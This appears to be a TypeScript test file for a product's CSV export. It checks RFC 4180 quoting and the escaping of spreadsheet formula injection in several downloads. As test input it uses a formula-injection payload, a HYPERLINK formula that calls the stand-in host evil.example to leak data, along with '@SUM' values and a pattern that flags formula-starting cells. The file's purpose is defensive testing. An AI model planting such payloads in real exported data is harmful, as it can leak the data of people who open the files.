// The one CSV writer: RFC 4180 quoting, and formula injection neutralised (OWASP) in every CSV the
// product sends — open data, the indicator's values, the comparison table, the department
// template and the evaluate command — while plain numbers, negative ones too, stay numbers.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { and, eq } from 'drizzle-orm';
import { createTestDatabase, type TestDatabase } from '../test-support/database.js';
import { prepareBundledData } from '../datasets/bundled.js';
import { createApp } from '../app.js';
import { indicators, observations, plans } from '../db/schema.js';
import { parseCsv } from '../imports/csv.js';
import { csvField, csvRow, readCsvField } from './csv.js';

test('CSV fields: RFC 4180 quoting, booleans as 1/0, empty for null', () => {
  assert.equal(csvField('約4億9,600万円'), '"約4億9,600万円"');
  assert.equal(csvField('「まちさぽ」"構築"'), '"「まちさぽ」""構築"""');
  assert.equal(csvField('一行目\n二行目'), '"一行目\n二行目"');
  assert.equal(csvField(' 前後に空白 '), '" 前後に空白 "');
  assert.equal(csvField(true), '1');
  assert.equal(csvField(false), '0');
  assert.equal(csvField(null), '');
  assert.equal(csvField(2013), '2013');
  assert.equal(csvRow(['a', null, 71.7]), 'a,,71.7\r\n');
});

test('a text a spreadsheet would run as a formula gets a single quote in front; a plain number stays a number', () => {
  assert.equal(csvField('=HYPERLINK("http://evil.example/?leak","詳細")'), `"'=HYPERLINK(""http://evil.example/?leak"",""詳細"")"`);
  assert.equal(csvField('+1+1'), "'+1+1");
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField('-'), "'-");
  assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)");
  assert.equal(csvField('\t=1'), "'\t=1");
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  // text that already starts with a quote before such a character gets one more (read back exactly)
  assert.equal(csvField("'=1"), "''=1");
  // numbers, as numbers or as the text of one: -3.5 must stay a readable number
  assert.equal(csvField(-3.5), '-3.5');
  assert.equal(csvField('-3.5'), '-3.5');
  assert.equal(csvField('+81'), '+81');
  assert.equal(csvField('-0.001'), '-0.001');
  assert.equal(csvField('-1e-3'), '-1e-3');
  // not formulas: a minus sign (U+2212), 約, a dash, a date
  assert.equal(csvField('−3.5'), '−3.5');
  assert.equal(csvField('▲3.5'), '▲3.5');
  assert.equal(csvField('2021-04-01'), '2021-04-01');
  for (const text of ['=1', "'=1", "''-x", '-3.5', "'", "'abc", '@', '-']) assert.equal(readCsvField(csvField(text).replace(/^"|"$/g, '')), text, text);
});

// ── the downloads themselves ──

let database: TestDatabase;
let app: ReturnType<typeof createApp>;
const FORMULA = '=HYPERLINK("http://evil.example/?leak","詳細")';
before(async () => {
  database = await createTestDatabase();
  await prepareBundledData(database);
  app = createApp(database);
  // a value sent with a formula as its text and its note, in a year no round covers (public)
  const [indicator] = await database.db
    .select({ id: indicators.id })
    .from(indicators)
    .innerJoin(plans, eq(plans.id, indicators.planId))
    .where(and(eq(plans.code, 'sapporo-2nd'), eq(indicators.code, '1-c')));
  assert.ok(indicator);
  await database.db.insert(observations).values({ indicatorId: indicator.id, fiscalYear: 2010, kind: 'actual', value: '-3.5', text: FORMULA, note: '@SUM(1+1)' });
});
after(async () => {
  await database.close();
});

async function csvRecords(path: string): Promise<Record<string, string>[]> {
  const response = await app.request(path);
  assert.equal(response.status, 200, path);
  const parsed = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
  assert.ok(parsed.ok, path);
  const [header, ...rows] = parsed.records.map((r) => r.fields);
  return rows.map((row) => Object.fromEntries((header ?? []).map((h, i) => [h, row[i] ?? ''])));
}

test('the public observations CSV: the formula is text behind a quote, -3.5 stays a number', async () => {
  const rows = await csvRecords('/opendata/plans/sapporo-2nd/observations.csv');
  const row = rows.find((r) => r['年度'] === '2010' && r['指標コード'] === '1-c');
  assert.ok(row);
  assert.equal(row['表記'], `'${FORMULA}`);
  assert.equal(row['備考'], "'@SUM(1+1)");
  assert.equal(row['値'], '-3.5');
  assert.ok(rows.every((r) => Object.values(r).every((v) => !/^[=+@\t\r]/.test(v) && !/^-(?![\d.])/.test(v))), 'no cell of the file starts a formula');
});

test("the indicator's values CSV: the same", async () => {
  const rows = await csvRecords('/plans/sapporo-2nd/indicators/1-c/values.csv');
  const row = rows.find((r) => r.fiscal_year === '2010');
  assert.ok(row);
  assert.equal(row.text_as_written, `'${FORMULA}`);
  assert.equal(row.value, '-3.5');
});
